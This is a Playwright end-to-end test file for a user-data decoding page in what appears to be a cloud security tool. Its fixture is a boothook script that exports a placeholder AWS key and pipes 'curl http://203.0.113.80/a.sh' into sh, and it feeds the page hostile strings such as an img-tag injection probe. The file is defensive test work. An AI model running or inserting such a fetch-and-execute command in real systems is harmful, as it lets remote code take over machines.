// Decoding without an alert: nothing is stored until somebody says so, and hostile text stays text.
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { HOSTILE } from './log-files';
import { expectAccessible } from './support/accessible';
import { expect, test } from './support/console';
import { expectFits } from './support/fit';

const KEY = 'AKIAIOSFODNN7EXAMPLE';
const HOOK = `#cloud-boothook\n#!/bin/sh\n# e2e decode\nexport AWS_ACCESS_KEY_ID=${KEY}\ncurl -s http://203.0.113.80/a.sh | sh\n`;
const SHA = createHash('sha256').update(HOOK).digest('hex');

const field = (page: Page) => page.getByLabel('User data', { exact: true });
const answer = (page: Page) => page.getByRole('article', { name: 'Decoded' });

test('base64 is decoded, stored nowhere, and kept on request', async ({ page }) => {
  await page.goto('/alerts');
  await page.locator('body').press('g');
  await page.locator('body').press('d');
  await expect(page.getByRole('heading', { name: 'Nothing decoded yet' })).toBeVisible();
  await field(page).fill(Buffer.from(HOOK).toString('base64'));
  await field(page).press('Control+Enter');
  await expect(answer(page).getByText('Runs at the next start: yes')).toBeVisible();
  await expect(answer(page).getByText('Runs on a new instance: yes')).toBeVisible();
  await expect(answer(page).getByText(SHA)).toBeVisible();
  expect(await answer(page).innerText()).not.toContain(KEY);
  await expectAccessible(page);

  const index = await page.context().newPage();
  await index.goto(`/payloads?q=${SHA}`);
  await expect(index.getByText('No user data fits')).toBeVisible();

  await page.getByRole('button', { name: 'Keep it' }).click();
  await expect(page.getByText('Kept.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Open its page' })).toHaveAttribute('href', `/payloads/${SHA}`);
  await index.reload();
  const row = index.getByRole('row').filter({ hasText: SHA.slice(0, 12) });
  await expect(row).toContainText('every boot');
  await expect(row).toContainText('nobody said');
  await expect(row).toContainText('High');
  await expectAccessible(index);

  await page.goto('/decode', { waitUntil: 'networkidle' });
  await field(page).fill(HOOK);
  await field(page).press('Control+Enter');
  await expect(page.getByText('This content is kept already')).toBeVisible();
  await page.getByRole('link', { name: 'open its page' }).click();
  await expect(page).toHaveURL(`/payloads/${SHA}`);
});

test('what was pasted survives a refusal, and the refusal says what to do', async ({ page }) => {
  await page.goto('/decode');
  await field(page).fill('   ');
  await page.getByRole('button', { name: 'Decode', exact: true }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'nothing to decode' })).toBeVisible();
  await field(page).fill(HOOK);
  await page.getByLabel('File with user data').setInputFiles({
    name: 'large.bin',
    mimeType: 'application/octet-stream',
    buffer: Buffer.alloc(1_100_000, 7),
  });
  await expect(page.getByRole('alert').filter({ hasText: 'larger than 1 MB' })).toBeVisible();
  await expect(field(page)).toHaveValue(HOOK);
  await page.getByRole('button', { name: 'Decode', exact: true }).click();
  await expect(answer(page).getByText('Runs at the next start: yes')).toBeVisible();
});

test('a marker of AWS is explained, with the command that reads the value', async ({ page }) => {
  await page.goto('/decode');
  await page.getByRole('button', { name: 'What CloudTrail shows' }).click();
  await expect(answer(page)).toContainText('AWS withheld this value');
  await expect(answer(page)).toContainText('aws ec2 describe-instance-attribute');
  await expect(page.getByRole('button', { name: 'Keep it' })).toHaveCount(0);
});

test('a file keeps its bytes, and can go to an instance', async ({ page }) => {
  const script = '#!/bin/sh\r\n# e2e decode, a file\r\n';
  await page.goto('/decode', { waitUntil: 'networkidle' });
  await page.getByLabel('File with user data').setInputFiles({
    name: 'boot.gz',
    mimeType: 'application/gzip',
    buffer: gzipSync(script),
  });
  await expect(page.getByText('Decoded boot.gz.')).toBeVisible();
  const sha = createHash('sha256').update(gzipSync(script)).digest('hex');
  await expect(answer(page)).toContainText(sha);
  await page.getByLabel('Instance', { exact: true }).fill('i-0abcde2e');
  await page.getByRole('button', { name: 'Keep it' }).click();
  await expect(page.getByRole('alert').filter({ hasText: '12 digits' })).toBeVisible();
  await page.getByLabel('Account of the instance').fill('444433332222');
  await page.getByRole('button', { name: 'Keep it' }).click();
  await expect(page.getByText('Kept.')).toBeVisible();
  await page.goto('/payloads?holder=i-0abcde2e');
  await expect(page.getByRole('row').filter({ hasText: sha.slice(0, 12) })).toContainText('i-0abcde2e');
  await page.getByRole('button', { name: 'Remove the filter Seen at: i-0abcde2e' }).click();
  await expect(page).toHaveURL(/\/payloads$/);
});

test('hostile text is shown, never obeyed, and fits a phone', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto('/decode');
  await field(page).fill(`#!/bin/sh\n${Object.values(HOSTILE).join('\n')}\n${'x'.repeat(5000)}\n`);
  await field(page).press('Control+Enter');
  await expect(answer(page)).toContainText('<img src=x');
  expect(await page.title()).toBe('Decode · Waymark');
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  const text = await answer(page).innerText();
  expect(text).not.toContain('\u202E');
  expect(text).not.toContain('\u001b');
  await expectFits(page);
  await expectAccessible(page);
});
